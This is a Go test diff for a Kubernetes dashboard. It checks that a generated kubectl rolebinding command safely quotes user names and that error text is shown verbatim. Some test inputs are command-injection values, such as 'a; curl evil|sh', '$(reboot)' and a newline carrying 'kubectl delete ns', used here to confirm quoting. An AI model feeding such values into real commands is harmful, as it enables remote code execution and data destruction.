@@ -8,6 +8,7 @@ import (
 	"bytes"
 	"compress/gzip"
 	"crypto/tls"
+	"errors"
 	"net/http"
 	"net/http/httptest"
 	"strings"
@@ -17,6 +18,7 @@ import (
 	"sigs.k8s.io/controller-runtime/pkg/client"
 
 	praxisv1 "github.com/praxis-dev/praxis/api/v1alpha1"
+	"github.com/praxis-dev/praxis/internal/dashboard/identity"
 )
 
 func TestEveryAnswerTellsABrowserWhatItMayDo(t *testing.T) {
@@ -99,6 +101,36 @@ func TestWhoeverMayReadNothingIsToldSo(t *testing.T) {
 	for path, says := range map[string]string{"/": "kubectl create rolebinding praxis-view", "/me": "kubectl create rolebinding praxis-view"} {
 		if code, body, _ := s.get(t, path); code != http.StatusOK || !strings.Contains(body, says) {
 			t.Errorf("%s answered %d: %s", path, code, body)
+		}
+	}
+}
+
+func TestTheCommandForAnAdministratorIsOneCommand(t *testing.T) {
+	for user, want := range map[string]string{
+		"mira@example.com":     "--user=mira@example.com",
+		"oidc:mira":            "--user=oidc:mira",
+		"a; curl evil|sh":      "--user='a; curl evil|sh'",
+		"$(reboot)":            "--user='$(reboot)'",
+		"o'hara":               `--user='o'\''hara'`,
+		"a\nkubectl delete ns": "--user='a kubectl delete ns'",
+	} {
+		if got := grant("platform", user); got != "kubectl create rolebinding praxis-view -n platform --clusterrole=praxis-view "+want {
+			t.Errorf("%q is named by %s", user, got)
+		}
+	}
+	s := newStage(t, "thursday.yaml", "a b")
+	s.denied = func(string, string) bool { return true }
+	if _, body, _ := s.get(t, "/"); !strings.Contains(body, "-n NAMESPACE --clusterrole=praxis-view --user=&#39;a b&#39;") {
+		t.Errorf("the page has another command: %s", body)
+	}
+}
+
+func TestWhyNobodyKnowsSomebodyIsSaidAsItIs(t *testing.T) {
+	s := newStage(t, "thursday.yaml", "")
+	for err, want := range map[error]int{errors.New("100%d of it is away"): http.StatusServiceUnavailable, &identity.Refusal{Message: "100%d of it is refused"}: http.StatusForbidden} {
+		s.unknown = err
+		if code, body, _ := s.get(t, "/"); code != want || !strings.Contains(body, "100%d of it is") || strings.Contains(body, "%!") {
+			t.Errorf("%v answered %d: %s", err, code, body)
 		}
 	}
 }
